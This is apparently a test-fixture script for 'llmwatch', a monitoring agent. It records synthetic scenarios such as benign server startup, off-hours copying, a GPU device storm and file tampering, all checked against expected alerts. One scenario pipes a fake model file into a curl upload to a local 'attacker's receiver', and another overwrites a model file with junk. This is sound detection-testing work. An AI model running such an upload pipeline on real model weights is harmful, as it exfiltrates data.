#!/usr/bin/env bash
# Re-records the replay corpus: each scenario runs real processes under the real agent
# (`llmwatch record`), and the recording is trimmed to the scenario's process tree so it stays
# small and free of unrelated host activity. Run as root from the repository root:
#   cargo build -p llmwatch && sudo tests/scenarios/record.sh
# The expected alerts live beside each recording (<name>.expected) and are checked by
# `cargo test -p llmwatch --test replay_corpus`; re-recording must not change them.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
bin=${LLMWATCH_BIN:-$here/../../target/debug/llmwatch}
work=$(mktemp -d /tmp/llmwatch-rec.XXXXXX)
trap 'rm -rf "$work"' EXIT

safetensors() { # path size
  python3 - "$1" "$2" <<'PY'
import struct, sys
path, size = sys.argv[1], int(sys.argv[2])
h = b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
body = struct.pack('<Q', len(h)) + h
open(path, 'wb').write(body + bytes((i % 251) + 1 for i in range(size - len(body))))
PY
}

# record NAME CONFIG SCRIPT [agent args...]: runs SCRIPT under `bash -c` while recording.
record() {
  local name=$1 config=$2 script=$3; shift 3
  local raw=$work/$name.raw.jsonl
  local args=(record "$raw" --model-dir "$work/models")
  [ -n "$config" ] && args+=(--config "$here/$config")
  "$bin" "${args[@]}" "$@" > "$work/$name.alerts" 2> "$work/$name.log" &
  local agent=$!
  for _ in $(seq 100); do grep -q agent_ready "$raw" 2>/dev/null && break; sleep 0.1; done
  bash -c "$script" &
  local root=$!
  wait $root || true
  sleep 1
  kill -TERM $agent; wait $agent || true
  # Keep the scenario's tree: its root shell and every descendant (from fork/exec events).
  python3 - "$raw" "$root" > "$here/$name.jsonl" <<'PY'
import json, sys
raw, root = sys.argv[1], int(sys.argv[2])
lines = [json.loads(l) for l in open(raw) if l.strip()]
tree = {root}
for v in lines:
    if v.get("kind") == "proc_fork" and v["task"]["pid"] in tree:
        tree.add(v["child_pid"])
    if v.get("kind") == "proc_exec" and v.get("ppid") in tree:
        tree.add(v["task"]["pid"])
for v in lines:
    if "task" in v and v["task"]["pid"] in tree or v.get("kind") == "agent_event_loss":
        print(json.dumps(v, separators=(",", ":")))
PY
  echo "$name: $(wc -l < "$here/$name.jsonl") events; live alerts: $(grep -o '"rule":"[^"]*"' "$work/$name.alerts" | sort -u | tr '\n' ' ')" >&2
}

mkdir -p "$work/models" "$work/out"
safetensors "$work/models/model.safetensors" 3145728
printf 'GGUF\3\0\0\0' > "$work/models/model.gguf"; head -c 2097152 /dev/zero >> "$work/models/model.gguf"

record benign_server_startup benign_server_startup.yaml \
  "exec -a fake-inference-server cat $work/models/model.safetensors $work/models/model.gguf > /dev/null"

# A loopback HTTP sink that reads a whole upload and answers 200 (the attacker's receiver).
python3 - "$work/port" <<'PY' > /dev/null 2>&1 & web=$!
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
c, _ = s.accept(); data = b""
while b"\r\n\r\n" not in data: data += c.recv(65536)
head, body = data.split(b"\r\n\r\n", 1)
n = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
while len(body) < n: body += c.recv(65536)
c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"); c.close()
PY
for _ in $(seq 50); do [ -s "$work/port" ] && break; sleep 0.1; done
port=$(cat "$work/port")
record exfil_cat_curl exfil_cat_curl.yaml \
  "cat $work/models/model.safetensors | curl -s -o /dev/null -H 'Expect:' --data-binary @- http://127.0.0.1:$port/upload" \
  --clock-start 2026-11-23T10:00:00Z  # a Monday morning: business hours, so only the exfil rules
wait $web || true

record offhours_cp offhours_cp.yaml "cp $work/models/model.gguf $work/out/copy.gguf" \
  --clock-start 2026-11-22T03:00:00Z

mknod "$work/nvidia0" c 195 0
record gpu_spawn_storm gpu_spawn_storm.yaml \
  "for i in \$(seq 20); do cat $work/nvidia0 2>/dev/null; done; true"

record tamper_replace "" \
  "printf junk > $work/models/evil.tmp && mv $work/models/evil.tmp $work/models/model.gguf"
